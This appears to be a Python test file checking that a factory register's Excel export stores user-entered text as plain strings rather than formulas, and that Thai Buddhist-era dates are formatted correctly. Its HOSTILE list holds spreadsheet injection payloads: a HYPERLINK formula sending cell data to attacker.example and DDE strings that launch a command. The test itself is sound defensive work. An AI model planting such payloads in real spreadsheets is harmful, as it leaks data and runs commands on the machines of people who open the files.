"""The register's Excel export as the person who opens it in Excel meets it."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

from openpyxl import load_workbook

from tests.builders import exported_factories, numbered_factory

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"คลิก")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_it_writes_what_people_typed_as_text_never_as_a_formula(client, member):
    for number, name in enumerate(HOSTILE, start=1):
        numbered_factory(f"1057000000{number:04d}", name=name, operator_name="=1+2")
    client.force_login(member)
    data = exported_factories(client).content
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert sorted(row[2].value for row in rows) == sorted(HOSTILE)
    assert all(row[2].data_type == "s" and row[3].value == "=1+2" for row in rows)


def test_it_writes_dates_as_dates_shown_in_the_buddhist_era(client, member):
    numbered_factory("10570000000001", licence_date=dt.date(2012, 6, 7))
    client.force_login(member)
    sheet = load_workbook(io.BytesIO(exported_factories(client).content)).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("วันที่ได้รับอนุญาต") + 1)
    assert cell.is_date and cell.value.date() == dt.date(2012, 6, 7)  # Excel sorts it as a date
    assert "107041E" in cell.number_format  # Thai, Buddhist calendar: shown as 07/06/2555
